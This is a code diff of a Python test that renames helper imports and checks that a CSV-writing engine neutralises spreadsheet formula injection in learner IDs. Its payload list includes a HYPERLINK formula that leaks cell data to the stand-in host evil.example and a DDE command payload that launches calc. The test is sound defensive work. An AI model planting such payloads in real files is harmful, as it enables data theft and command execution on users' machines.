@@ -7,8 +7,7 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
-from conftest import assert_clean_failure, cli
-from test_hostile_input import HEADER, _csv_line
+from robust_helpers import HEADER, assert_clean_failure, cli, csv_line
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "=1+1"]
@@ -23,8 +22,8 @@ def _cells(path: Path) -> list[str]:
 def test_formula_ids_are_text_in_every_csv_the_engine_writes(tmp_path: Path) -> None:
     rows = [HEADER]
     for n, formula in enumerate(FORMULAS):
-        rows.append(_csv_line(learner_id=formula[:200], fabrique_id=f"{formula[:150]}{n}"))  # granted
-        rows.append(_csv_line(learner_id=formula[:200] + "x", revenu_brut_global="lots"))  # rejected
+        rows.append(csv_line(learner_id=formula[:200], fabrique_id=f"{formula[:150]}{n}"))  # granted
+        rows.append(csv_line(learner_id=formula[:200] + "x", revenu_brut_global="lots"))  # rejected
     path = tmp_path / "in.csv"
     path.write_text("\n".join(rows) + "\n", encoding="utf-8")
     db = f"sqlite:///{tmp_path / 's.db'}"
